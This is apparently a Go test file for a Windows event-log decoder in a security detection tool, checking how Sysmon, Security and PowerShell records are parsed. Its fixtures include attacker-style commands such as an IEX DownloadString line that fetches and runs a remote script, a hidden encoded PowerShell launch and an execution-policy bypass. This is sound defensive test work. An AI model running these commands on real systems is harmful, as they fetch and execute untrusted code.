package windows

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/decode"
	"github.com/vigil-sec/vigil/decode/internal/dectest"
	"github.com/vigil-sec/vigil/decode/internal/jsonscan"
	"github.com/vigil-sec/vigil/event"
)

func decodeFile(t *testing.T, name string, dict *event.Dict) *event.Event {
	t.Helper()
	rec, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	var ev event.Event
	ev.Fields.Bind(dict)
	if err := New().Decode(rec, &ev); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return &ev
}

var values = dectest.Values

func TestDecodeFixtures(t *testing.T) {
	tests := []struct {
		file      string
		logsource event.Logsource
		time      string
		common    map[string]string
		fields    map[string][]string
		absent    []string
	}{
		{
			file:      "flat_sysmon1.json",
			logsource: event.Logsource{Product: "windows", Service: "sysmon", Category: "process_creation"},
			time:      "2023-03-14T09:26:53.589Z",
			common: map[string]string{
				"event.code": "1", "host.name": "WKS01.corp.example", "user.name": "alice", "user.domain": "CORP",
				"process.executable":        `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"process.name":              "powershell.exe",
				"process.command_line":      `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc SQBFAFgA`,
				"process.pid":               "6196",
				"process.parent.executable": `C:\Windows\explorer.exe`,
				"event.category":            "process",
				"event.outcome":             "",
			},
			fields: map[string][]string{"EventID": {"1"}, "EventRecordID": {"88213"}, "OriginalFileName": {"PowerShell.EXE"}, "Execution_ProcessID": {"3100"}},
		},
		{
			file:      "flat_security4624.json",
			logsource: event.Logsource{Product: "windows", Service: "security"},
			time:      "2023-03-14T09:30:01.25Z",
			common: map[string]string{
				"event.code": "4624", "source.ip": "192.0.2.44", "source.port": "51234", "user.name": "bob", "user.domain": "CORP",
				"event.outcome": "success", "event.category": "authentication", "process.pid": "0", "process.executable": "",
			},
			fields: map[string][]string{"LogonType": {"3"}, "IpAddress": {"::ffff:192.0.2.44"}, "SubjectUserName": {"-"}},
		},
		{
			file:      "evtx_dump_4625.json",
			logsource: event.Logsource{Product: "windows", Service: "security"},
			time:      "2023-03-14T09:31:17.402118Z",
			common: map[string]string{
				"event.code": "4625", "source.ip": "198.51.100.23", "source.port": "40112", "user.name": "administrator",
				"user.domain": "CORP", "event.outcome": "failure", "event.category": "authentication", "host.name": "DC01.corp.example",
			},
			fields: map[string][]string{
				"EventID": {"4625"}, "Channel": {"Security"}, "Provider_Name": {"Microsoft-Windows-Security-Auditing"},
				"Provider_Guid": {"{54849625-5478-4994-A5BA-3E3B0328C30D}"}, "TimeCreated": {"2023-03-14T09:31:17.402118Z"},
				"Execution_ProcessID": {"652"}, "Execution_ThreadID": {"7720"}, "Correlation_ActivityID": {"{0E8E8A47-5A2F-0001-A38A-8E0E2F5AD901}"},
				"LogonProcessName": {"NtLmSsp "}, "Status": {"0xc000006d"}, "KeyLength": {"0"}, "Keywords": {"0x8010000000000000"},
			},
			absent: []string{"Security", "Event.System.Channel", "#attributes"},
		},
		{
			file:      "evtx_dump_eventid_object.json",
			logsource: event.Logsource{Product: "windows", Service: "system"},
			time:      "2023-03-14T10:02:44.11802Z",
			common:    map[string]string{"event.code": "7045", "host.name": "SRV02", "event.outcome": ""},
			fields: map[string][]string{
				"EventID": {"7045"}, "EventID_Qualifiers": {"16384"}, "ServiceName": {"PSEXESVC"}, "ImagePath": {`%SystemRoot%\PSEXESVC.exe`},
				"Provider_Name": {"Service Control Manager"}, "Provider_EventSourceName": {"Service Control Manager"},
				"Security_UserID": {"S-1-5-21-1004336348-1177238915-682003330-512"},
			},
		},
		{
			file:      "evtx_dump_userdata_1102.json",
			logsource: event.Logsource{Product: "windows", Service: "security"},
			time:      "2023-03-14T11:00:00Z",
			common:    map[string]string{"event.code": "1102", "user.name": "mallory", "user.domain": "CORP", "event.outcome": "success"},
			fields:    map[string][]string{"SubjectUserName": {"mallory"}, "SubjectLogonId": {"0x3e7"}},
			absent:    []string{"xmlns", "LogFileCleared.SubjectUserName"},
		},
		{
			file:      "evtx_dump_classic_data.json",
			logsource: event.Logsource{Product: "windows", Service: "powershell-classic", Category: "ps_classic_start"},
			time:      "2023-03-14T11:05:00.5Z",
			common:    map[string]string{"event.code": "400", "host.name": "WKS01"},
			fields: map[string][]string{
				"Data":          {"Available", "None", "\tNewEngineState=Available\r\n\tHostApplication=powershell.exe -ep bypass\r\n"},
				"Provider_Name": {"PowerShell"},
			},
		},
		{
			file:      "evtx_dump_named_data.json",
			logsource: event.Logsource{Product: "windows", Service: "security", Category: "process_creation"},
			time:      "2023-03-14T11:00:00Z", // +01:00 in the record
			common: map[string]string{
				"process.executable": `C:\Windows\System32\cmd.exe`, "process.name": "cmd.exe", "process.pid": "6700",
				"process.command_line": "cmd.exe /c whoami", "process.parent.executable": `C:\Windows\explorer.exe`,
				"user.name": "carol", "user.domain": "CORP", "event.category": "process",
			},
			fields: map[string][]string{
				"NewProcessName": {`C:\Windows\System32\cmd.exe`}, "Image": {`C:\Windows\System32\cmd.exe`},
				"ParentImage": {`C:\Windows\explorer.exe`}, "ProcessId": {"0x44c"},
			},
			absent: []string{"TokenElevationType", "Data"},
		},
		{
			file:      "winlogbeat_sysmon3.json",
			logsource: event.Logsource{Product: "windows", Service: "sysmon", Category: "network_connection"},
			time:      "2023-03-14T13:14:15.161Z",
			common: map[string]string{
				"event.code": "3", "host.name": "WKS03.corp.example", "source.ip": "10.1.2.3", "source.port": "49822",
				"destination.ip": "203.0.113.80", "destination.port": "443", "network.transport": "tcp",
				"user.name": "dave", "user.domain": "CORP", "process.name": "updater.exe", "process.pid": "5120", "event.category": "network",
			},
			fields: map[string][]string{
				"EventID": {"3"}, "Channel": {"Microsoft-Windows-Sysmon/Operational"}, "Computer": {"WKS03.corp.example"},
				"Provider_Name": {"Microsoft-Windows-Sysmon"}, "EventRecordID": {"240551"}, "Execution_ProcessID": {"2900"},
				"Execution_ThreadID": {"3720"}, "Security_UserID": {"S-1-5-18"}, "Initiated": {"true"},
				"host.name": {"wks03"}, "message": {"Network connection detected"}, "winlog.api": {"wineventlog"},
			},
			absent: []string{"winlog.event_id", "winlog.user.identifier"},
		},
		{
			file:      "winlogbeat_4104.json",
			logsource: event.Logsource{Product: "windows", Service: "powershell", Category: "ps_script"},
			time:      "2023-03-14T14:00:00Z",
			common:    map[string]string{"event.code": "4104", "host.name": "WKS03"},
			fields:    map[string][]string{"ScriptBlockText": {"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"}, "Keywords": {"None"}},
			absent:    []string{"Path"},
		},
		{
			file:      "nxlog_4688.json",
			logsource: event.Logsource{Product: "windows", Service: "security", Category: "process_creation"},
			time:      "2023-03-14T15:01:02Z",
			common: map[string]string{
				"host.name": "WKS04.corp.example", "process.executable": `C:\Windows\System32\net.exe`, "process.name": "net.exe",
				"process.pid": "8720", "user.name": "erin", "event.outcome": "success", "process.parent.executable": `C:\Windows\System32\cmd.exe`,
			},
			fields: map[string][]string{
				"Computer": {"WKS04.corp.example"}, "Provider_Name": {"Microsoft-Windows-Security-Auditing"}, "EventRecordID": {"771022"},
				"Execution_ProcessID": {"4"}, "Execution_ThreadID": {"5112"}, "Opcode": {"0"}, "Image": {`C:\Windows\System32\net.exe`},
				"ProcessId": {"0x1c44"},
			},
			absent: []string{"EventType", "Hostname", "SourceName", "OpcodeValue"},
		},
		{
			file:      "flat_sysmon12_delete.json",
			logsource: event.Logsource{Product: "windows", Service: "sysmon", Category: "registry_delete"},
			time:      "2023-03-14T16:00:00Z",
			common:    map[string]string{"event.category": "registry", "process.name": "regedit.exe"},
			fields:    map[string][]string{"EventType": {"DeleteKey"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			ev := decodeFile(t, tt.file, event.NewOpenDict())
			if ev.Logsource != tt.logsource {
				t.Errorf("logsource = %+v, want %+v", ev.Logsource, tt.logsource)
			}
			want, _ := time.Parse(time.RFC3339Nano, tt.time)
			if !ev.Time.Equal(want) {
				t.Errorf("time = %v, want %v", ev.Time, want)
			}
			for name, w := range tt.common {
				id, ok := event.CommonID(name)
				if !ok {
					t.Fatalf("no common field %s", name)
				}
				if got := ev.Common[id]; got != w {
					t.Errorf("%s = %q, want %q", name, got, w)
				}
			}
			for name, w := range tt.fields {
				got := values(ev, name)
				if strings.Join(got, "\x00") != strings.Join(w, "\x00") {
					t.Errorf("field %s = %q, want %q", name, got, w)
				}
			}
			for _, name := range tt.absent {
				if got := values(ev, name); got != nil {
					t.Errorf("field %s = %q, want absent", name, got)
				}
			}
		})
	}
}

func TestClosedDictStoresOnlyItsNames(t *testing.T) {
	ev := decodeFile(t, "flat_sysmon1.json", event.NewDict("Image", "CommandLine"))
	if ev.Fields.Len() != 2 {
		t.Errorf("stored %d fields, want 2", ev.Fields.Len())
	}
	// The ECS mapping reads what it needs whatever the Dict holds.
	if ev.Common[event.UserName] != "alice" || ev.Common[event.HostName] != "WKS01.corp.example" {
		t.Errorf("common fields depend on the Dict: %q %q", ev.Common[event.UserName], ev.Common[event.HostName])
	}
	if ev.Logsource.Category != "process_creation" {
		t.Errorf("category = %q", ev.Logsource.Category)
	}
}

func TestServiceOf(t *testing.T) {
	for channel, want := range map[string]string{
		"Security": "security", "SECURITY": "security", "system": "system",
		"Microsoft-Windows-Sysmon/Operational":           "sysmon",
		"microsoft-windows-powershell/operational":       "powershell",
		"Windows PowerShell":                             "powershell-classic",
		"Microsoft-Windows-Windows Defender/Operational": "windefend",
		"Microsoft-Windows-AppLocker/EXE and DLL":        "applocker",
		"Microsoft-Windows-AppLocker/":                   "",
		"Something Else":                                 "",
	} {
		if got := serviceOf(channel); got != want {
			t.Errorf("serviceOf(%q) = %q, want %q", channel, got, want)
		}
	}
}

// TestServiceMemo: the memo answers as serviceOf does whatever the order
// of channels, of the same length or too long to remember.
func TestServiceMemo(t *testing.T) {
	long := "Microsoft-Windows-AppLocker/" + strings.Repeat("x", 100)
	var m serviceMemo
	for _, channel := range []string{"Security", "Security", "System", "Securitx", "SECURITY", "Something Else", "System", long, long, "Security", "", "Application"} {
		buf := []byte(channel) // a slice of a record, reused
		got := m.of(bytesString(buf))
		clear(buf)
		if want := serviceOf(channel); got != want {
			t.Errorf("after the channels before it, %q gives service %q, want %q", channel, got, want)
		}
	}
}

func TestBadInput(t *testing.T) {
	tests := []struct {
		rec, field, reason string
		offset             int
	}{
		{rec: `{"EventID":1,"Channel":}`, offset: 23, reason: "invalid JSON"},
		{rec: `[1,2]`, offset: 0, reason: "want an object"},
		{rec: `{"Channel":"Security"}`, field: "EventID", offset: -1, reason: "no EventID"},
		// Objects of none of the shapes: an evtx_dump Event without System,
		// a winlog without event_id, a record wrapped in another object.
		{rec: `{"Event":{"EventData":{"Image":"x"}}}`, field: "EventID", offset: -1, reason: "Event.System.EventID (evtx_dump)"},
		{rec: `{"winlog":{"channel":"Security"},"event":{"code":"4624"}}`, field: "EventID", offset: -1, reason: "winlog.event_id (Winlogbeat)"},
		{rec: `{"event":{"EventID":4624,"Channel":"Security"}}`, field: "EventID", offset: -1, reason: "missing required key EventID"},
		{rec: `{"EventID":"x12","Channel":"Security"}`, field: "EventID", offset: -1, reason: "not a number"},
		{rec: `{"EventID":1,"TimeCreated":"yesterday"}`, field: "TimeCreated", offset: -1, reason: "unreadable time"},
		{rec: `{"Event":{"System":{"EventID":{"#text":-4}}}}`, field: "EventID", offset: -1, reason: "not a number"},
	}
	for _, tt := range tests {
		var ev event.Event
		ev.Fields.Bind(event.NewOpenDict())
		err := New().Decode([]byte(tt.rec), &ev)
		var de *decode.Error
		if !errors.As(err, &de) {
			t.Errorf("%s: err = %v, want *decode.Error", tt.rec, err)
			continue
		}
		if de.Field != tt.field || de.Offset != tt.offset || !strings.Contains(de.Reason, tt.reason) || de.Format != Format {
			t.Errorf("%s: got %+v (%v), want field %q offset %d reason ~%q", tt.rec, de, de, tt.field, tt.offset, tt.reason)
		}
	}
}

func sigmaDict(t testing.TB) *event.Dict {
	b, err := os.ReadFile(filepath.Join("testdata", "sigma_fields.txt"))
	if err != nil {
		t.Fatal(err)
	}
	return event.NewDict(strings.Fields(string(b))...)
}

func TestZeroAllocs(t *testing.T) {
	dict := sigmaDict(t)
	for _, file := range []string{"flat_sysmon1.json", "evtx_dump_4625.json", "winlogbeat_sysmon3.json", "nxlog_4688.json", "evtx_dump_named_data.json"} {
		rec, err := os.ReadFile(filepath.Join("testdata", file))
		if err != nil {
			t.Fatal(err)
		}
		d := New()
		var ev event.Event
		ev.Fields.Bind(dict)
		allocs := testing.AllocsPerRun(200, func() {
			ev.Reset()
			if err := d.Decode(rec, &ev); err != nil {
				t.Fatal(err)
			}
		})
		if allocs != 0 {
			t.Errorf("%s: %.1f allocs per record, want 0", file, allocs)
		}
	}
}

// corpus opens the shared Windows corpus, or skips.
func corpus(t testing.TB) *bufio.Scanner {
	path := filepath.Join("..", "..", "..", "shared", "data", "events", "windows-mordor.jsonl.gz")
	f, err := os.Open(path)
	if err != nil {
		t.Skipf("Windows corpus not available (%v)", err)
	}
	t.Cleanup(func() { f.Close() })
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(zr)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	return sc
}

// TestCorpus decodes the whole Mordor corpus and checks the logsource
// counts against the ones its README documents.
func TestCorpus(t *testing.T) {
	if testing.Short() {
		t.Skip("corpus test skipped in -short mode")
	}
	sc := corpus(t)
	d := New()
	var ev event.Event
	ev.Fields.Bind(sigmaDict(t))
	n := 0
	categories := map[string]int{}
	services := map[string]int{}
	noTime, noStamp := 0, 0
	for sc.Scan() {
		if !bytes.Contains(sc.Bytes(), []byte(`"TimeCreated"`)) && !bytes.Contains(sc.Bytes(), []byte(`"TimeGenerated"`)) {
			noStamp++ // records with neither stamp (none since TimeGenerated is read)
		}
		n++
		ev.Reset()
		if err := d.Decode(sc.Bytes(), &ev); err != nil {
			t.Fatalf("line %d: %v", n, err)
		}
		if ev.Time.IsZero() {
			noTime++
		}
		categories[ev.Logsource.Category]++
		services[ev.Logsource.Service]++
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if n != 116445 {
		t.Errorf("decoded %d records, want 116445", n)
	}
	if noTime != noStamp {
		t.Errorf("%d records decoded without a time, %d have none", noTime, noStamp)
	}
	for cat, want := range map[string]int{"process_access": 36709, "image_load": 16870, "registry_set": 7117, "process_creation": 342 + 346, "file_event": 966} {
		if categories[cat] != want {
			t.Errorf("category %s: %d records, want %d", cat, categories[cat], want)
		}
	}
	if categories["registry_add"]+categories["registry_delete"] != 17814 {
		t.Errorf("registry_add+delete: %d, want 17814", categories["registry_add"]+categories["registry_delete"])
	}
	for svc, want := range map[string]int{"sysmon": 83061, "security": 28372, "powershell-classic": 2450, "powershell": 2272, "system": 143} {
		if services[svc] != want {
			t.Errorf("service %s: %d records, want %d", svc, services[svc], want)
		}
	}
	t.Logf("%d records; categories %v", n, categories)
}

// mordorRecords returns the records of the shared Windows corpus, read once
// per test binary, or skips.
func mordorRecords(tb testing.TB) [][]byte {
	mordorOnce.Do(func() {
		sc := corpus(tb)
		for sc.Scan() {
			mordor = append(mordor, append([]byte(nil), sc.Bytes()...))
		}
		if err := sc.Err(); err != nil {
			tb.Fatal(err)
		}
	})
	if len(mordor) == 0 {
		tb.Skip("Windows corpus not available")
	}
	return mordor
}

var (
	mordorOnce sync.Once
	mordor     [][]byte
)

// BenchmarkDecode decodes the whole Mordor corpus round and round into an
// event bound to the ~200 names Sigma's Windows rules read. Run it with
// -cpu 1; records/cpu-s is the figure to watch on a shared machine.
func BenchmarkDecode(b *testing.B) {
	recs := mordorRecords(b)
	runtime.GC() // the corpus is read: leave no collection to the timed loop
	dectest.BenchDecode(b, New(), sigmaDict(b), recs)
}

// BenchmarkDecodeRef is BenchmarkDecode for the fastjson-based reference
// (ref_test.go). It shares keyCache and captured with Decoder, which have
// changed since, so it approximates the decoder as it was.
func BenchmarkDecodeRef(b *testing.B) {
	recs := mordorRecords(b)
	runtime.GC()
	dectest.BenchDecode(b, newRef(), sigmaDict(b), recs)
}

func FuzzDecode(f *testing.F) {
	addFixtureSeeds(f)
	f.Add([]byte(`{"Event":{"System":[],"EventData":"x","UserData":{"a":1}}}`))
	f.Add([]byte(`{"winlog":{"event_id":[1,2],"process":3,"event_data":{"Data":{"#attributes":{"Name":5}}}}}`))
	d := New()
	dict := event.NewOpenDict()
	f.Fuzz(func(t *testing.T, rec []byte) {
		var ev event.Event
		ev.Fields.Bind(dict)
		err := d.Decode(rec, &ev)
		if err != nil {
			var de *decode.Error
			if !errors.As(err, &de) {
				t.Fatalf("error %v is not a *decode.Error", err)
			}
			return
		}
		if ev.Logsource.Product != "windows" || ev.Common[event.EventCode] == "" {
			t.Fatalf("decoded without product or event code: %+v", ev.Logsource)
		}
	})
}

// BenchmarkScanOnly is the floor under BenchmarkDecode on this machine:
// jsonscan checking the same records and reading their top-level keys,
// every value passed over.
func BenchmarkScanOnly(b *testing.B) {
	recs := mordorRecords(b)
	runtime.GC()
	var sc jsonscan.Scanner
	b.ReportAllocs()
	b.ResetTimer()
	cpu := dectest.CPUTime()
	for i := 0; i < b.N; i++ {
		sc.Reset(recs[i%len(recs)])
		sc.Object()
		for _, _, ok := sc.Member(); ok; _, _, ok = sc.Member() {
		}
		if err := sc.End(); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "records/s")
	if cpu := dectest.CPUTime() - cpu; cpu > 0 {
		b.ReportMetric(float64(b.N)/cpu.Seconds(), "records/cpu-s")
	}
}

func TestRegistered(t *testing.T) {
	d, err := decode.New(Format)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := d.(*Decoder); !ok {
		t.Errorf("decode.New(%q) gave a %T", Format, d)
	}
}

// TestLogAnalyticsEventData reads EventData written as a string, as Log
// Analytics exports it: XML in SecurityEvent rows, a JSON object in
// WindowsEvent rows; TimeGenerated gives the time when nothing else does.
func TestLogAnalyticsEventData(t *testing.T) {
	dict := event.NewOpenDict()
	get := func(ev *event.Event, n string) string {
		id, _ := dict.ID(n)
		v, _ := ev.Fields.Get(id)
		return v
	}
	sec := `{"TimeGenerated":"2022-05-13T08:54:05.21Z","Computer":"WORKSTATION5","Channel":"Security","EventID":5156,"SubjectUserName":"top",` +
		`"EventData":"<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\r\n  <Data Name=\"Application\">C:\\a&amp;b.exe</Data>\r\n  <Data Name=\"SourceAddress\">192.168.3.5</Data>\r\n  <Data Name=\"SourcePort\">50452</Data>\r\n  <Data Name=\"Empty\" />\r\n  <Data Name=\"SubjectUserName\">inner</Data>\r\n</EventData>"}`
	var ev event.Event
	ev.Fields.Bind(dict)
	if err := New().Decode([]byte(sec), &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Time.Format(time.RFC3339Nano) != "2022-05-13T08:54:05.21Z" || get(&ev, "Application") != `C:\a&b.exe` || ev.Common[event.SourceIP] != "192.168.3.5" ||
		ev.Common[event.SourcePort] != "50452" || get(&ev, "SubjectUserName") != "top" || ev.Fields.Multi(mustID(t, dict, "SubjectUserName")) {
		t.Errorf("SecurityEvent row: time %v common %+v Application %q SubjectUserName %q", ev.Time, ev.Common, get(&ev, "Application"), get(&ev, "SubjectUserName"))
	}
	sysmon := `{"TimeGenerated":"2022-05-13T08:54:06.347Z","Provider":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WORKSTATION5","EventID":"1",` +
		`"EventData":"{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c whoami\",\"ParentImage\":\"C:\\\\tomcat9.exe\"}"}`
	ev.Reset()
	if err := New().Decode([]byte(sysmon), &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Logsource.Category != "process_creation" || ev.Common[event.ProcessName] != "cmd.exe" || ev.Common[event.ProcessCommandLine] != "cmd /c whoami" ||
		get(&ev, "ParentImage") != `C:\tomcat9.exe` || ev.Time.IsZero() {
		t.Errorf("WindowsEvent row: %+v %+v", ev.Logsource, ev.Common)
	}
	// Not an EventData shape: the string stays as it is, and nothing breaks.
	for _, bad := range []string{`"{\"x\":"`, `"<Data Name=\"A"`, `"<Data Name=\"A\">v"`, `"plain"`} {
		ev.Reset()
		if err := New().Decode([]byte(`{"EventID":1,"EventData":`+bad+`}`), &ev); err != nil {
			t.Errorf("%s: %v", bad, err)
		}
	}
}

func mustID(t *testing.T, d *event.Dict, n string) int32 {
	id, ok := d.ID(n)
	if !ok {
		t.Fatalf("no field %s", n)
	}
	return id
}

// addFixtureSeeds adds every JSON fixture to a fuzz target's seeds.
func addFixtureSeeds(f *testing.F) {
	files, _ := filepath.Glob(filepath.Join("testdata", "*.json"))
	for _, file := range files {
		b, err := os.ReadFile(file)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
}
